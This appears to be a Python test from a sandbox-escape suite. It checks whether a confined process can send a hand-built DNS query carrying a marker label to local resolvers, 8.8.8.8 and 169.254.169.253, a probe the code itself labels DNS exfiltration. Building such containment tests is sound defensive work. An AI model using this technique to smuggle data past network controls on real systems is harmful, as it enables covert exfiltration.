"""Ask a name server by a datagram of one's own, to every usual place."""

from tests.escape.grants import another_port
from tests.escape.technique import Granted, Technique


def attack(world):
    query = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x05token\x06escape\x07invalid\0\0\x01\0\x01"
    for host in ((127, 0, 0, 53), (127, 0, 0, 1), (8, 8, 8, 8), (169, 254, 169, 253)):
        descriptor = world.socket_raw(2, 2)
        address = world.ipv4(53, host)
        result, _ = world.attempt("sendto", descriptor, query, len(query), 0, address, len(address))
        if result > 0:
            world.got(f"a query to {host}")


TECHNIQUE = Technique(
    source="T1071.004: DNS exfiltration",
    policy=another_port,
    event=("net.send", "net.connect"),
    by="kernel",
    syscall="sendto",
    stops=("notification",),
    control=Granted(lambda p, t: p.allow_connect("127.0.0.1:53")),
)
